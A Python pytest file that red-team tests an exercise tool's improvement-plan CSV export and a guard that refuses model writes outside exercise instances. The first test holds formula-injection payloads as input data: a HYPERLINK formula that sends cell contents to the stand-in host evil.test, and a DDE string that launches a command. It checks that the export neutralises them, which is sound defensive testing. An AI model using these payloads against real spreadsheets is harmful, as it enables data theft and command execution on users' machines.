"""Red-team review of the exercise context: exports neutralise formulas; the isolation guard."""

from __future__ import annotations

import csv
import io

import pytest

from palermo.exercise import isolation
from palermo.exercise.models import ImprovementItem


def test_redteam_improvement_plan_csv_neutralises_formulas(loaded, as_user):
    chief = as_user("chief")
    r = chief.post(
        "/exercise/aar/",
        {
            "criterion": "victim_centred",
            "issue": '=HYPERLINK("http://evil.test/?"&A1,"x")',
            "corrective_action": "+cmd|' /C calc'!A0",
            "owner": "@SUM(1+1)",
            "due_date": "2027-03-31",
        },
    )
    assert r.status_code == 302
    assert ImprovementItem.objects.count() == 1
    body = chief.get("/exercise/aar/improvement-plan.csv").content.decode()
    rows = [row for row in csv.reader(io.StringIO(body)) if row and not row[0].startswith("#")]
    issue, action, owner = rows[-1][1:4]
    assert issue.startswith("'=") and action.startswith("'+") and owner.startswith("'@")


def test_redteam_exercise_model_writes_refused_outside_an_exercise(db, settings):
    settings.PALERMO_EXERCISE = ""
    with pytest.raises(isolation.NotAnExerciseInstance):
        ImprovementItem.objects.update(owner="x")
